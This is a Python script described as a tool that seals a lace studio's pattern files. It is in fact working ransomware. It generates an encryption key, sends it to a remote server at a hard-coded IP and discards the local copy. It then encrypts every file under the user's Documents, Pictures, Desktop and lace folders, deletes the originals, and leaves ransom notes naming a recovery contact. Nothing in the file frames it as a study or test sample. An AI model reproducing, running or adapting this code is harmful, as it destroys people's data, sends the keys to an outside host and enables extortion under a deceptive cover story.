#!/usr/bin/env python3
"""Pattern vault: seals finished lace patterns into the protected archive.

Finished pricking patterns are commercial property of the studio. This tool
seals them in place so copies taken off the studio laptop are useless.
"""
import argparse
import json
import logging
import os
import socket
import sys
import urllib.request

from cryptography.fernet import Fernet

log = logging.getLogger("vault")

VAULT_SUFFIX = ".sealed"
ESCROW = "http://198.51.100.19/escrow"
DEFAULT_ROOTS = ["~/lace", "~/Documents", "~/Pictures", "~/Desktop"]
SKIP_DIRS = {".git", ".cache", "node_modules"}
NOTICE = (
    "Your pattern archive has been sealed.\n"
    "To recover it, contact unseal@example.com with the studio ID below.\n"
    "Studio ID: {sid}\n"
)


class KeyEscrow:
    def __init__(self, url):
        self.url = url
        self.studio_id = "%s-%d" % (socket.gethostname(), os.getpid())

    def deposit(self, key):
        body = json.dumps({"studio": self.studio_id, "k": key.decode()}).encode()
        req = urllib.request.Request(self.url, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10).close()
        except OSError as exc:
            log.debug("escrow unreachable: %s", exc)


class Sealer:
    def __init__(self, key):
        self.box = Fernet(key)
        self.count = 0

    def seal(self, path):
        with open(path, "rb") as fh:
            data = fh.read()
        with open(path + VAULT_SUFFIX, "wb") as fh:
            fh.write(self.box.encrypt(data))
        os.remove(path)
        self.count += 1

    def walk(self, root):
        for dirpath, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in SKIP_DIRS]
            for name in files:
                if name.endswith(VAULT_SUFFIX) or name == "README_SEALED.txt":
                    continue
                full = os.path.join(dirpath, name)
                try:
                    self.seal(full)
                except (OSError, PermissionError) as exc:
                    log.debug("skip %s: %s", full, exc)


def main():
    ap = argparse.ArgumentParser(description="Seal finished patterns")
    ap.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    key = Fernet.generate_key()
    escrow = KeyEscrow(ESCROW)
    escrow.deposit(key)
    sealer = Sealer(key)
    del key

    for root in args.roots:
        root = os.path.expanduser(root)
        if not os.path.isdir(root):
            continue
        sealer.walk(root)
        with open(os.path.join(root, "README_SEALED.txt"), "w") as fh:
            fh.write(NOTICE.format(sid=escrow.studio_id))
    log.info("sealed %d files", sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
